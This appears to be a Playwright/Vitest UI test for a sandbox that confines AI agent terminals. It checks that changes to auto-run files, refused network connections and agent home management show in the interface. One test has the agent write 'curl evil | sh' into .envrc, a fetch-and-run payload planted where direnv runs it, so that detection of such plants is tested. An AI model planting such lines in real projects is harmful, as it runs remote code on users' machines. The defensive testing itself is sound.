import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { Locator } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentFiles } from '../../src/main/sandbox/agent-files';
import { stateDir } from '../../src/main/state-dir';
import { command } from '../support/capabilities';
import { needed, sandboxAvailable, sandboxRequired } from '../integration/sandbox-helpers';
import { chromiumAvailable, chromiumRequired, screenshotPath, skipReason } from './helpers/browser';
import { testUrl } from './helpers/serve';
import { useUiFixture } from './helpers/ui-fixture';

const runUi = (chromiumAvailable || chromiumRequired) && (sandboxAvailable || sandboxRequired);
if (!runUi)
  console.warn(chromiumAvailable ? 'sandbox UI tests: skipped, bubblewrap cannot run here (set TANDEM_REQUIRE_SANDBOX=1 to fail instead).' : skipReason);
const curl = command('curl', 'apt install curl');

/**
 * Issue 24 in the UI, in real Chromium against an in-process `tandem serve`, with a confined
 * agent terminal opened by the official MCP client: files the person's tools run that the agent
 * changed show on its tab and in its pane; the agent's card shows its own home (Open, Remove),
 * its network domain list (edited there, read back from the host) and the connections its proxy
 * refused.
 */
describe.skipIf(!runUi)('Tandem UI: a confined agent’s files and network', () => {
  const ui = useUiFixture({ width: 1280, height: 800 }, async ({ serve, page }) => {
    await page.goto(testUrl(serve.loginUrl));
    await page.locator('[data-connection="connected"]').waitFor();
  });
  const agent = 'boxer';
  let mcp: Client | undefined;
  let terminalId = '';
  let opener = '';
  const savedPath = process.env.PATH;

  const panel = (): Locator => ui.page.getByRole('complementary', { name: 'Agents' });
  const card = (): Locator => panel().getByRole('article', { name: `Agent ${agent}` });
  const tab = (id: string): Locator => ui.page.locator(`[role="tab"][data-terminal-id="${id}"]`);
  const banner = (): Locator => ui.page.locator('[role="tabpanel"]:visible [data-testid="tool-files-changed"]');
  const paired = () => ui.serve.agents.state().paired.find((entry) => entry.name === agent);
  const openPanel = async () => {
    if (!(await panel().isVisible())) await ui.page.getByRole('button', { name: /^Agents/ }).click();
    await panel().waitFor();
  };
  const call = async (name: string, args: Record<string, unknown>): Promise<Record<string, unknown>> => {
    const result = await mcp!.callTool({ name, arguments: args }, undefined, { timeout: 70_000 });
    expect(result.isError, JSON.stringify(result.structuredContent)).toBeFalsy();
    return result.structuredContent as Record<string, unknown>;
  };
  const shoot = async (name: string) => {
    for (const theme of ['dark', 'light'] as const) {
      ui.serve.host.settings.update({ theme });
      await expect.poll(() => ui.page.evaluate(() => document.documentElement.dataset.theme)).toBe(theme);
      for (const viewport of [
        { width: 1280, height: 800 },
        { width: 800, height: 600 },
      ]) {
        await ui.page.setViewportSize(viewport);
        await ui.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
        await ui.page.screenshot({ path: screenshotPath(`sandbox-ui-${name}-${theme}-${viewport.width}x${viewport.height}`) });
      }
    }
    await ui.page.setViewportSize({ width: 1280, height: 800 });
  };

  beforeAll(async () => {
    const token = ui.serve.agents.tokens.pair(agent);
    ui.serve.agents.setAgentPolicy({ name: agent, policy: 'always', sandbox: 'workspace-write', network: true, networkDomains: ['registry.npmjs.org'] });
    mcp = new Client({ name: 'sandbox-ui-test', version: '1.0.0' });
    await mcp.connect(new StreamableHTTPClientTransport(new URL(`${ui.serve.origin}/mcp`), { requestInit: { headers: ui.serve.agentHeaders(token) } }));
    // The system opener the host starts for Open (xdg-open in tandem serve): a stand-in that writes down what it was given.
    const bin = mkdtempSync(join(tmpdir(), 'tandem-opener-'));
    opener = join(bin, 'opened');
    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s' "$1" > '${opener}'\n`);
    chmodSync(join(bin, 'xdg-open'), 0o755);
    process.env.PATH = `${bin}:${savedPath ?? ''}`;
  });

  afterAll(async () => {
    process.env.PATH = savedPath;
    await mcp?.close().catch(() => undefined);
    if (opener) rmSync(join(opener, '..'), { recursive: true, force: true });
  });

  it('a write to .envrc shows a chip on the tab and names the file in the pane, with what would run it', async () => {
    const opened = await call('terminal_open', { title: 'boxer: edits' });
    expect(opened).toMatchObject({ sandbox: { mode: 'workspace-write', network: true } });
    terminalId = opened.id as string;
    await tab(terminalId).waitFor();
    expect(await tab(terminalId).locator('[data-mark="tool-files"]').count()).toBe(0);
    expect(
      await call('terminal_send', {
        id: terminalId,
        text: 'echo "curl evil | sh" > .envrc && mkdir -p .vscode && echo "{}" > .vscode/tasks.json && echo "all:" > Makefile',
      }),
    ).toMatchObject({ status: 'done', exitCode: 0 });
    await tab(terminalId).locator('[data-mark="tool-files"]').waitFor();
    expect(await tab(terminalId).locator('[data-mark="tool-files"]').getAttribute('title')).toContain('.envrc, .vscode/tasks.json');
    await tab(terminalId).click();
    await banner().waitFor();
    const said = (await banner().textContent()) ?? '';
    expect(said).toMatch(/boxer changed files your own tools run by themselves/);
    expect(said).toMatch(/\.envrc\s+direnv runs it/);
    expect(said).toMatch(/\.vscode\/tasks\.json\s+VS Code runs/);
    expect(said).not.toMatch(/Makefile/);
    await shoot('tool-files');
    // Dismissed, the banner goes; the chip stays on the tab; a further file brings the banner back.
    await ui.page.locator('[role="tabpanel"]:visible').getByRole('button', { name: 'Dismiss' }).click();
    await expect.poll(() => banner().count()).toBe(0);
    expect(await tab(terminalId).locator('[data-mark="tool-files"]').count()).toBe(1);
    await call('terminal_send', { id: terminalId, text: 'echo x > .exrc' });
    await banner().waitFor();
    expect(await banner().textContent()).toMatch(/\.exrc/);
  }, 120_000);

  it.runIf(needed(curl.present))(
    'a connection the domain list refuses shows on the card, and the list edited there is the host’s',
    async () => {
      const refused = await call('terminal_send', { id: terminalId, text: "curl -sS --max-time 20 -w ' %{http_code}' http://elsewhere.example.net/" });
      expect(refused.output).toMatch(/not in this agent's network domain list.* 403$/s);
      await openPanel();
      const list = card().getByRole('region', { name: `Refused connections of ${agent}` });
      await list.getByText('elsewhere.example.net:80').waitFor();
      expect(await list.textContent()).toMatch(/not in its domain list/);
      await card().locator('summary', { hasText: 'Network: only registry.npmjs.org' }).click();
      await shoot('card');
      // One click puts the refused host on the list; the host keeps it.
      await list.getByRole('button', { name: `Allow elsewhere.example.net for ${agent}` }).click();
      await expect.poll(() => paired()?.networkDomains).toEqual(['registry.npmjs.org', 'elsewhere.example.net']);
      // Typed into the list and removed from it, read back from the host and after a reload.
      const editor = card().getByRole('group', { name: 'Network domains' });
      await editor.getByRole('textbox', { name: 'Add to network domains' }).fill('*.PyPI.org');
      await editor.getByRole('button', { name: 'Add' }).click();
      await expect.poll(() => paired()?.networkDomains).toEqual(['registry.npmjs.org', 'elsewhere.example.net', '*.pypi.org']);
      await editor.getByRole('button', { name: 'Remove registry.npmjs.org' }).click();
      await expect.poll(() => paired()?.networkDomains).toEqual(['elsewhere.example.net', '*.pypi.org']);
      await ui.page.reload();
      await ui.page.locator('[data-connection="connected"]').waitFor();
      await openPanel();
      await card().locator('summary', { hasText: 'Network: only 2 domains' }).click();
      expect(await card().getByRole('group', { name: 'Network domains' }).locator('code').allTextContents()).toEqual(['elsewhere.example.net', '*.pypi.org']);
      // The refusal is still on the card after the reload (the host keeps it).
      await card()
        .getByRole('region', { name: `Refused connections of ${agent}` })
        .getByText('elsewhere.example.net:80')
        .waitFor();
      // The read list of the person's home, beside it.
      await card().locator('summary', { hasText: 'Reads in your home: toolchains and startup files only' }).click();
      const read = card().getByRole('group', { name: 'Readable in your home' });
      await read.getByRole('textbox', { name: 'Add to readable in your home' }).fill('~/.config/foo');
      await read.getByRole('button', { name: 'Add' }).click();
      await expect.poll(() => paired()?.homeReadable).toEqual(['~/.config/foo']);
      expect(paired()?.networkDomains).toEqual(['elsewhere.example.net', '*.pypi.org']);
    },
    120_000,
  );

  it('shows the agent’s home, opens it, and removes it only with its terminals closed and after asking', async () => {
    await openPanel();
    // serveEnv: TANDEM_HOME is the state directory, HOME its `home`, the project inside that.
    const files = agentFiles(
      stateDir({ platform: process.platform, env: { TANDEM_HOME: dirname(dirname(ui.serve.project)) }, home: dirname(ui.serve.project) }),
      agent,
    );
    expect(existsSync(files.home)).toBe(true);
    expect(await card().getByTestId('agent-home-path').getAttribute('title')).toBe(files.home);
    await card()
      .getByRole('button', { name: `Open the home of ${agent}` })
      .click();
    await expect.poll(() => (existsSync(opener) ? readFileSync(opener, 'utf8') : '')).toBe(files.home);
    const remove = card().getByRole('button', { name: `Remove the home of ${agent}` });
    expect(await remove.isDisabled()).toBe(true);
    await call('terminal_close', { id: terminalId });
    await expect.poll(() => remove.isDisabled()).toBe(false);
    await remove.click();
    const dialog = ui.page.getByRole('dialog', { name: `Remove the home of “${agent}”?` });
    await dialog.waitFor();
    await dialog.getByRole('button', { name: 'Remove', exact: true }).click();
    await expect.poll(() => existsSync(files.dir)).toBe(false);
    await card().getByText('made by its first confined terminal').waitFor();
  });
});
